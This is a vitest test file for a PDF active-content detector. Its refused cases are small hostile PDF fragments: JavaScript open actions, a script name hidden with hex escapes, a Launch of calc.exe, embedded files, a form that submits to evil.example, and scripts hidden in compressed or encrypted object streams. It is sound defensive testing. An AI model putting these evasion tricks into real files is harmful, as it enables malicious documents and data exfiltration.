import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { hasActiveContent } from './active-content.ts';

/** A PDF with these objects; a viewer finds them without a table, as after a broken download. */
const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.map((object, n) =>
      Buffer.concat([Buffer.from(`${n + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
    ),
    Buffer.from('trailer << /Root 1 0 R >>\n%%EOF'),
  ]);
const stream = (dictionary: string, bytes: Buffer) =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
const packed = (text: string, more = '') =>
  stream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${more}`, deflateSync(Buffer.from(text)));

describe('a PDF', () => {
  it.each([
    ['pages and a first page to open', pdf('<< /Type /Catalog /OpenAction [3 0 R /FitH null] >>')],
    ['links', pdf('<< /A << /S /URI /URI (https://hotel.example) >> >>')],
    ['objects that are packed', pdf(packed('1 0 << /Type /Page >>'))],
    ['a page that speaks of scripts', pdf(stream('/Filter /FlateDecode', deflateSync(Buffer.from('(JavaScript) Tj'))))],
  ])('with %s is taken', (_, bytes) => {
    expect(hasActiveContent(bytes)).toBe(false);
  });

  it.each([
    ['a script', pdf('<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>')],
    ['a script whose name is escaped', pdf('<< /S /J#61va#53cript /JS (1) >>')],
    ['a program to start', pdf('<< /S /Launch /F (calc.exe) >>')],
    ['a file inside', pdf('<< /Names << /EmbeddedFiles << /Names [] >> >> >>')],
    ['a form that sends itself', pdf('<< /S /SubmitForm /F (https://evil.example) >>')],
    ['a script in packed objects', pdf(packed('1 0 << /S /JavaScript /JS (1) >>'))],
    [
      'a script in packed objects behind a comment',
      pdf(Buffer.concat([Buffer.from('% obj\n'), packed('1 0 << /S /JavaScript >>')])),
    ],
    [
      'packed objects in a rare filter',
      pdf(stream('/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from('00>'))),
    ],
    [
      'packed objects that are encrypted',
      pdf(stream('/Type /ObjStm /Filter /FlateDecode', Buffer.from('xx')), '<< /Encrypt 9 0 R >>'),
    ],
  ])('with %s is refused', (_, bytes) => {
    expect(hasActiveContent(bytes)).toBe(true);
  });
});
